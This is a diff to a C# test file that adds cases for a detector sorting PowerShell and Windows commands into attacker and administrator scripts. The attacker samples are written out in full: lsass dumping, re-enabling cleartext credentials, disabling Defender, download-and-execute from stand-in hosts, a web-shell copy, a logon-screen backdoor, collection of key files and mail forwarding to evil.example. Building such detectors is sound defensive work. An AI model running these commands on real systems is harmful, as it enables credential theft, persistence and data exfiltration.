@@ -35,6 +35,24 @@ public sealed class JudgementTests
     [InlineData("setspn -T corp.local -Q */* | % { New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $_ }", "service-tickets-requested-for-all")]
     [InlineData("$a=[Ref].Assembly.GetTypes();foreach($b in $a){if($b.Name -like '*iUtils'){$c=$b}};$d=$c.GetFields('NonPublic,Static');[Runtime.InteropServices.Marshal]::Copy($x,0,$p,1)", "engine-fields-overwritten")]
     [InlineData("certutil -urlcache -split -f http://files.example/a.txt C:\\Windows\\Temp\\a.exe; C:\\Windows\\Temp\\a.exe", "fetched-by-certificate-tool")]
+    [InlineData("Set-ItemProperty 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest' -Name UseLogonCredential -Value 1; Set-ItemProperty 'HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa' -Name RunAsPPL -Value 0", "cleartext-passwords-enabled")]
+    [InlineData("reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v RunAsPPL /t REG_DWORD /d 0 /f; reg add HKLM\\X\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f", "lsass-protection-removed")]
+    [InlineData("$w=[Activator]::CreateInstance([Type]::GetTypeFromProgID('Excel.Application','10.0.0.5')); $w.DDEInitiate('cmd','/c powershell -nop -w hidden -c iex(irm http://files.example/a)')", "remote-object-that-starts-programs")]
+    [InlineData("wmic /node:srv1 process call create 'powershell -w hidden -c iex(irm http://203.0.113.5/a)'", "hidden-shell-that-fetches")]
+    [InlineData("$p='C:\\Users\\Public\\upd.ps1'; (iwr 'http://files.example/u').Content | Set-Content $p; schtasks /create /tn x /tr \"powershell -ep bypass -w hidden -f $p\" /sc onlogon", "script-fetched-to-writable-folder")]
+    [InlineData("[Reflection.Assembly]::LoadFile('C:\\Users\\Public\\r.dll').GetType('R.E'); Remove-Item $MyInvocation.MyCommand.Path -Force", "assembly-from-writable-folder")]
+    [InlineData("Add-Type -Path C:\\Users\\Public\\r.dll; Remove-Item $PSCommandPath", "deletes-itself")]
+    [InlineData("$a=[Security.Cryptography.Aes]::Create();$b=[Convert]::FromBase64String($e);[Reflection.Assembly]::Load($a.CreateDecryptor().TransformFinalBlock($b,0,$b.Length))", "assembly-from-encrypted-bytes")]
+    [InlineData("Uninstall-WindowsFeature Windows-Defender; reg add 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender' /v DisableAntiSpyware /t REG_DWORD /d 1 /f", "defender-disabled-several-ways")]
+    [InlineData("Get-Service | ? {$_.DisplayName -match 'Sophos|Symantec|CrowdStrike'} | % { Stop-Service $_ -Force }", "security-products-stopped")]
+    [InlineData("Copy-Item \\\\203.0.113.9\\pub\\shell.ashx C:\\inetpub\\wwwroot\\aspnet_client\\a.ashx", "page-copied-from-address")]
+    [InlineData("netsh interface portproxy add v4tov4 listenport=8443 connectaddress=198.51.100.8 connectport=443", "port-forwarded-to-public-address")]
+    [InlineData("Get-Mailbox | % { Add-MailboxPermission -Identity $_.Alias -User svc -AccessRights FullAccess -AutoMapping $false }; New-InboxRule -Mailbox ceo -Name '.' -ForwardTo 'a@evil.example'", "mail-diverted-by-rule")]
+    [InlineData("Get-Mailbox | % { Add-MailboxPermission -Identity $_.Alias -User svc -AccessRights FullAccess -AutoMapping $false }; New-InboxRule -Mailbox ceo -Name '..' -RedirectTo 'a@evil.example'", "all-mailboxes-opened")]
+    [InlineData("gci C:\\Users -Recurse -Include *.kdbx,*.rdg,id_rsa | Copy-Item -Destination C:\\ProgramData\\c; vaultcmd /listcreds:x", "secret-files-collected")]
+    [InlineData("New-Item 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe' -Force | New-ItemProperty -Name Debugger -Value cmd.exe", "logon-screen-backdoor")]
+    [InlineData("$b = (iwr 'https://img.example/cat.png').Content; $o=New-Object byte[] 9; 0..8|%{ $o[$_] = $b[$_*4] -band 15 }; IEX([Text.Encoding]::ASCII.GetString($o))", "download-and-execute")]
+    [InlineData("Get-Process lsass; procdump64.exe -accepteula -ma lsass.exe C:\\l.dmp", "lsass-dump")]
     public void Intruders_scripts_are_called_malicious(string script, string reason)
     {
         var judgement = Deobfuscator.Judge(script);
@@ -63,6 +81,13 @@ public sealed class JudgementTests
     [InlineData("iex ((New-Object Net.WebClient).DownloadString('https://tool.example/install.ps1'))")]
     [InlineData("ssh -L 8080:localhost:80 admin@host; setspn -L svc-exchange")]
     [InlineData("certutil -verify -urlfetch C:\\Certs\\mail.cer; fsutil usn queryjournal C:")]
+    [InlineData("Set-ItemProperty HKLM:\\X\\Lsa -Name RunAsPPL -Value 1; Set-ItemProperty HKLM:\\X\\WDigest -Name UseLogonCredential -Value 0")]
+    [InlineData("Get-Process lsass | Select-Object WorkingSet64; procdump64.exe -accepteula -ma w3wp.exe C:\\Dumps")]
+    [InlineData("netsh interface portproxy add v4tov4 listenport=8080 connectaddress=10.0.0.8 connectport=80; netsh interface portproxy show all")]
+    [InlineData("New-InboxRule -Mailbox jdoe -Name 'Newsletters' -From 'news@vendor.example' -MoveToFolder 'jdoe:\\News'; Add-MailboxPermission -Identity shared -User jdoe -AccessRights FullAccess")]
+    [InlineData("New-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\w3wp.exe' -Name DumpType -Value 2")]
+    [InlineData("Copy-Item \\\\deploy\\web\\default.aspx C:\\inetpub\\wwwroot\\; Restart-Service 'Sophos Agent'; Get-Service WinDefend, Sense")]
+    [InlineData("Add-Type -Path 'C:\\Program Files\\Vendor\\Api.dll'; Get-ChildItem C:\\Users -Recurse -Include *.pst | Copy-Item -Destination D:\\Archive")]
     public void Administrators_scripts_are_not(string script) => Assert.False(Deobfuscator.Judge(script).Malicious);
 
     [Fact]
